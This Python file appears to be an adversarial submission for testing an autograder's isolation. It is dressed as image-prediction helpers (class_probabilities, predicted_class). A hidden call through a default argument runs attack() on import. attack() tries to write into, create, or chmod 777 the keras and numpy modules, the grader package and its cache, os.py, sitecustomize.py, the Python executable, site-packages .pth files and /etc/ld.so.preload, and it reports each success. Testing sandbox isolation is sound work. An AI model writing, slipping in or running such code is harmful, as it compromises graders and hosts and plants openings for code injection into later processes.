# mypy: ignore-errors
"""Writes into Python, its packages and their caches, which the next child imports.

It prints TOOK for each that it could write.
Verdict: first_prediction: finished, 12 points
"""

import os
import site
import sys
from pathlib import Path

import keras
import numpy as np


def attack():
    package = Path(sys.modules["autograder"].__file__)
    places = [
        Path(keras.__file__),
        Path(np.__file__),
        package,
        package.parent / "attack_left.py",
        package.parent / "__pycache__" / "frames.cpython-311.pyc",
        Path(os.__file__),
        Path(os.__file__).parent / "sitecustomize.py",
        Path(sys.executable),
        Path(sys.prefix) / "pyvenv.cfg",
        *(Path(folder, "attack_left.pth") for folder in site.getsitepackages()),
        Path("/etc/ld.so.preload"),
    ]
    for path in places:
        print("TRIED", path.name, flush=True)
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND))
        except OSError:
            pass
        else:
            print("TOOK", path, flush=True)
        try:
            os.chmod(path, 0o777)
        except OSError:
            continue
        print("TOOK the rights of", path, flush=True)


def class_probabilities(model, images):
    return model.predict(images, verbose=0)[0]


def predicted_class(model, images, found=attack()):
    return int(np.argmax(class_probabilities(model, images)))
